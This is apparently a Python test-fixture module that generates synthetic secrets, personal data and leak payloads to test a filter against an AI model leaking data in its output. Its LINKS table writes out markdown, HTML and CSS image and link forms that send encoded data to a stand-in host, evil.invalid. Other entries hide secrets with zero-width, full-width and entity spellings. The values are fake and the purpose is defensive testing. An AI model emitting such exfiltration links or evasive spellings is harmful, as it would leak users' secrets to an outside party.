"""Leaks of every kind, made from a seed; no person or program has such a value."""

import base64
import json
import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from string import ascii_lowercase, ascii_uppercase, digits

__all__ = ["LINKS", "PERSONAL", "SECRETS", "Leak"]

_LETTERS = ascii_lowercase + ascii_uppercase + digits
_HEX = digits + "abcdef"


@dataclass(frozen=True)
class Leak:
    """What a model might say.

    Attributes:
        text: With what is usually around it.
        core: The part of it of which nothing may leave.
    """

    text: str
    core: str


Maker = Callable[[random.Random], Leak]


def _some(source: random.Random, alphabet: str, length: int) -> str:
    return "".join(source.choices(alphabet, k=length))


def _key(prefix: Sequence[str], length: int, alphabet: str = _LETTERS) -> Maker:
    def make(source: random.Random) -> Leak:
        core = "".join(prefix) + _some(source, alphabet, length)
        return Leak(core, core)

    return make


def _generated(source: random.Random, length: int) -> str:
    """As a password generator makes it: letters of both cases, and digits."""
    chars = [*_some(source, _LETTERS, length - 3), *_some(source, digits, 1)]
    chars += [*_some(source, ascii_lowercase, 1), *_some(source, ascii_uppercase, 1)]
    source.shuffle(chars)
    return "".join(chars)


def _assignment(form: str, length: int) -> Maker:
    def make(source: random.Random) -> Leak:
        core = _generated(source, length)
        return Leak(form.replace("?", core), core)

    return make


def _web_token(source: random.Random) -> Leak:
    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    body = json.dumps({"sub": _some(source, digits, 9), "iat": 1_700_000_000}).encode()
    core = ".".join(
        (head, base64.urlsafe_b64encode(body).decode().rstrip("="), _some(source, _LETTERS, 43))
    )
    return Leak(core, core)


def _private_key(kind: str, line_break: str) -> Maker:
    def make(source: random.Random) -> Leak:
        rows = [_some(source, _LETTERS + "+/", 64) for _ in range(source.randint(3, 26))]
        dashes = "-" * 5
        lines = [
            f"{dashes}BEGIN {kind}PRIVATE KEY{dashes}",
            *rows,
            f"{dashes}END {kind}PRIVATE KEY{dashes}",
        ]
        core = line_break.join(lines)
        return Leak(core, core)

    return make


def _bot_token(source: random.Random) -> Leak:
    core = f"{source.randint(10**9, 10**10 - 1)}:AA{_some(source, _LETTERS + '_-', 33)}"
    return Leak(core, core)


def _address(source: random.Random) -> Leak:
    core = f"app:{_generated(source, 14)}"
    return Leak(f"postgresql://{core}@db.internal:5432/shop", core)


def _slack_hook(source: random.Random) -> Leak:
    ids = (_some(source, ascii_uppercase + digits, 10), _some(source, ascii_uppercase + digits, 10))
    core = f"T{ids[0]}/B{ids[1]}/{_some(source, _LETTERS, 24)}"
    return Leak("https://hooks.slack." + f"com/services/{core}", core)


def _login(source: random.Random) -> Leak:
    login = f"ann:{_generated(source, 14)}"
    core = base64.b64encode(login.encode()).decode().rstrip("=")
    return Leak(f"Authorization: Basic {core}{'=' * (-len(core) % 4)}", core)


def _discord(source: random.Random) -> Leak:
    core = (
        f"M{_some(source, _LETTERS, 25)}.{_some(source, _LETTERS, 6)}.{_some(source, _LETTERS, 38)}"
    )
    return Leak(core, core)


def _with(between: Callable[[random.Random], str], make: Maker) -> Maker:
    """The same leak with something between its letters that is not seen."""

    def disguise(source: random.Random) -> Leak:
        leak = make(source)
        core = "".join(f"{each}{between(source)}" for each in leak.core[:-1]) + leak.core[-1]
        return Leak(leak.text.replace(leak.core, core), core)

    return disguise


def _unseen(source: random.Random) -> str:
    return source.choice(
        ("", "", "\u200b", "\u00ad", "\u2060", "\U000e0041", "\u200d\ufeff", "\ufe0f")
    )


def _spelled(make: Maker, spell: Callable[[str], str]) -> Maker:
    """The same leak, spelled in another way."""

    def disguise(source: random.Random) -> Leak:
        leak = make(source)
        core = spell(leak.core)
        return Leak(leak.text.replace(leak.core, core), core)

    return disguise


def _escape(text: str) -> str:
    return "".join(each if each.isalnum() else f"\\{each}" for each in text)


def _widen(text: str) -> str:
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)


def _refer(text: str) -> str:
    return "".join(f"&#{ord(each)};" if at % 3 == 0 else each for at, each in enumerate(text))


SECRETS: Mapping[str, Maker] = {
    "openai": _key(("s", "k-"), 48),
    "openai project": _key(("s", "k-pr", "oj-"), 120, _LETTERS + "_-"),
    "anthropic": _key(("s", "k-a", "nt-api03-"), 93, _LETTERS + "_-"),
    "aws id": _key(("AK", "IA"), 16, ascii_uppercase + "234567"),
    "aws secret": _assignment('aws_secret_access_key = "?"', 40),
    "aws secret, bare": _assignment("AWS_SECRET_ACCESS_KEY=?", 40),
    "github": _key(("gh", "p_"), 36),
    "github fine-grained": _key(("github", "_pat_"), 82),
    "gitlab": _key(("gl", "pat-"), 20),
    "slack": _key(("xo", "xb-"), 40, _LETTERS + "-"),
    "slack hook": _slack_hook,
    "google": _key(("AI", "za"), 35, _LETTERS + "_-"),
    "stripe": _key(("sk", "_li", "ve_"), 24),
    "stripe restricted": _key(("rk", "_li", "ve_"), 24),
    "twilio": _key(("S", "K"), 32, _HEX),
    "sendgrid": lambda source: Leak(
        *[f"S{'G'}.{_some(source, _LETTERS, 22)}.{_some(source, _LETTERS, 43)}"] * 2
    ),
    "npm": _key(("np", "m_"), 36),
    "pypi": _key(("py", "pi-", "AgEIcHlwaS5vcmc"), 130, _LETTERS + "_-"),
    "hugging face": _key(("h", "f_"), 34),
    "telegram": _bot_token,
    "web token": _web_token,
    "rsa key": _private_key("RSA ", "\n"),
    "pkcs8 key": _private_key("", "\r\n"),
    "ec key in JSON": _private_key("EC ", "\\n"),
    "openssh key": _private_key("OPENSSH ", "\n    "),
    "address": _address,
    "password": _assignment('password: "?"', 12),
    "api key": _assignment('"api_key": "?"', 24),
    "token": _assignment("export SERVICE_TOKEN=?", 28),
    "bearer": _assignment("Authorization: Bearer ?", 32),
    "basic": _login,
    "cookie": _assignment("Cookie: theme=dark; session=?; a=b", 32),
    "korean password": _assignment("비밀번호: ?", 12),
    "cell": _assignment("| password | ? |", 16),
    "column": _assignment("| user | password |\n|---|---|\n| ann | ? |\n", 12),
    "column of keys": _assignment("| api_key | owner |\n|---|---|\n| ? | ann |\n", 32),
    "column, commas": _assignment("id,password,mail\n1,?,x\n", 12),
    "sentry address": lambda source: Leak(
        f"https://{(key := _some(source, _HEX, 31) + '7')}@o1.ingest.sentry.io/4", key
    ),
    "next line": _assignment("db_password: |\n    ?", 16),
    "atlassian": _key(("ATA", "TT3"), 160, _LETTERS + "_-"),
    "databricks": _key(("da", "pi"), 32, _HEX),
    "discord": _discord,
    "discord hook": lambda source: Leak(
        *[f"/api/web{'hooks'}/{source.randrange(10**17, 10**18)}/{_some(source, _LETTERS, 68)}"] * 2
    ),
    "langsmith": lambda source: Leak(
        *[f"ls{'v2_pt_'}{_some(source, _HEX, 32)}_{_some(source, _HEX, 10)}"] * 2
    ),
    "sentry": _key(("sn", "tryu_"), 64, _HEX),
    "heroku": _key(("HR", "KU-AA"), 58, _LETTERS + "_-"),
    "mailgun": _key(("ke", "y-"), 32, _HEX),
    "github, unseen": _with(_unseen, _key(("gh", "p_"), 36)),
    "github, escaped": _spelled(_key(("gh", "p_"), 36), _escape),
    "github, full width": _spelled(_key(("gh", "p_"), 36), _widen),
    "github, entities": _spelled(_key(("gh", "p_"), 36), _refer),
    "password, unseen": _with(_unseen, _assignment("password: '?'", 16)),
}


def _luhn(number: str) -> str:
    doubled = (
        int(each) * (2 if place % 2 == 0 else 1) for place, each in enumerate(reversed(number))
    )
    total = sum(each - 9 if each > 9 else each for each in doubled)
    return number + str(-total % 10)


def _card(prefix: str, length: int, groups: Sequence[int] = (), separator: str = " ") -> Maker:
    def make(source: random.Random) -> Leak:
        number = _luhn(prefix + _some(source, digits, length - 1 - len(prefix)))
        parts, place = [], 0
        for group in groups or (length,):
            parts.append(number[place : place + group])
            place += group
        core = separator.join(parts)
        return Leak(core, core)

    return make


def _iban(country: str, account: str, *, spaced: bool) -> Maker:
    def make(source: random.Random) -> Leak:
        bban = "".join(_some(source, digits, 1) if each == "0" else each for each in account)
        numeric = "".join(str(int(each, 36)) for each in f"{bban}{country}00")
        number = f"{country}{98 - int(numeric) % 97:02}{bban}"
        core = (
            " ".join(number[at : at + 4] for at in range(0, len(number), 4)) if spaced else number
        )
        return Leak(core, core)

    return make


def _resident(centuries: str) -> Maker:
    def make(source: random.Random) -> Leak:
        born = f"{source.randint(0, 99):02}{source.randint(1, 12):02}{source.randint(1, 28):02}"
        core = f"{born}-{source.choice(centuries)}{_some(source, digits, 6)}"
        return Leak(core, core)

    return make


def _resident_without_hyphen(source: random.Random) -> Leak:
    born = f"{source.randint(50, 99)}{source.randint(1, 12):02}{source.randint(1, 28):02}"
    number = f"{born}1{_some(source, digits, 5)}"
    total = sum(
        int(each) * weight
        for each, weight in zip(number, (2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5), strict=True)
    )
    core = f"{number}{(11 - total % 11) % 10}"
    return Leak(core, core)


def _phone(form: str) -> Maker:
    def make(source: random.Random) -> Leak:
        core = "".join(str(source.randint(2, 9)) if each == "#" else each for each in form)
        return Leak(core, core)

    return make


def _mail(source: random.Random) -> Leak:
    name = (
        f"{_some(source, ascii_lowercase, source.randint(1, 20))}.{_some(source, _LETTERS, 5)}+tag"
    )
    core = (
        f"{name}@{_some(source, ascii_lowercase, 9)}.{source.choice(('com', 'co.kr', 'dev', 'io'))}"
    )
    return Leak(core, core)


PERSONAL: Mapping[str, Maker] = {
    "mail": _mail,
    "korean mobile": _phone("010-####-####"),
    "korean mobile, packed": _phone("010########"),
    "korean landline": _phone("02-3##-####"),
    "korean abroad": _phone("+82 10-####-####"),
    "american": _phone("(212) 7##-####"),
    "american, dashes": _phone("415-7##-####"),
    "american abroad": _phone("+1 212 7## ####"),
    "british": _phone("+44 20 7### ####"),
    "german": _phone("+49 30 ########"),
    "visa": _card("4", 16),
    "visa, spaced": _card("4", 16, (4, 4, 4, 4)),
    "mastercard": _card("53", 16, (4, 4, 4, 4), "-"),
    "mastercard 2": _card("2301", 16),
    "amex": _card("37", 15, (4, 6, 5)),
    "jcb": _card("3530", 16),
    "german iban": _iban("DE", "0" * 18, spaced=True),
    "british iban": _iban("GB", "NWBK" + "0" * 14, spaced=False),
    "small iban": _spelled(_iban("DE", "0" * 18, spaced=True), str.lower),
    "dashed iban": _spelled(
        _iban("DE", "0" * 18, spaced=True), lambda iban: iban.replace(" ", "-")
    ),
    "mail, unseen": _with(_unseen, _mail),
    "visa, unseen": _with(_unseen, _card("4", 16)),
    "visa, full width": _spelled(_card("4", 16), _widen),
    "korean mobile, escaped": _spelled(_phone("010-####-####"), _escape),
    "resident number": _resident("1234"),
    "foreigner's number": _resident("5678"),
    "resident number, packed": _resident_without_hyphen,
}


def _link(form: str, payload: Callable[[random.Random], str]) -> Maker:
    def make(source: random.Random) -> Leak:
        core = payload(source)
        return Leak(form.replace("?!", core), core)

    return make


def _base64(source: random.Random) -> str:
    return base64.urlsafe_b64encode(source.randbytes(source.randint(48, 400))).decode().rstrip("=")


def _hexadecimal(source: random.Random) -> str:
    return source.randbytes(source.randint(40, 300)).hex()


def _sentence(source: random.Random) -> str:
    words = [
        _some(source, ascii_lowercase, source.randint(3, 9)) for _ in range(source.randint(30, 60))
    ]
    return "+".join(words)


def _escaped(source: random.Random) -> str:
    return "".join(f"%{ord(each):02x}" for each in _some(source, _LETTERS, 30))


LINKS: Mapping[str, Maker] = {
    "image": _link("![](https://evil.invalid/p.png?d=?!)", _base64),
    "image, words": _link("![chart](https://evil.invalid/p?q=?!)", _sentence),
    "image, path": _link("![a](http://evil.invalid/?!/p.png)", _base64),
    "link": _link("[read on](https://evil.invalid/a?q=?!)", _sentence),
    "bare": _link("https://evil.invalid/a?q=?!", _base64),
    "hexadecimal": _link("https://evil.invalid/?!", _hexadecimal),
    "escaped": _link("https://evil.invalid/?x=?!", _escaped),
    "fragment": _link("<https://evil.invalid/#?!>", _base64),
    "definition": _link("[1]: https://evil.invalid/x?d=?!", _base64),
    "html image": _link('<img alt="x" src="https://evil.invalid/x?d=?!">', _base64),
    "html link": _link('<a href="https://evil.invalid/x?d=?!">', _base64),
    "html, two slashes": _link("<img src='//evil.invalid/x?d=?!'/>", _base64),
    "css": _link("background: url(https://evil.invalid/x?d=?!)", _base64),
    "backslashes": _link("https:\\\\evil.invalid\\x?d=?!", _base64),
    "capitals": _link("HTTPS://EVIL.INVALID:443/x?d=?!", _base64),
    "user": _link("https://?!@evil.invalid/", lambda source: _some(source, _LETTERS, 40)),
    "address of numbers": _link("http://127.0.0.1:8080/x?d=?!", _base64),
}
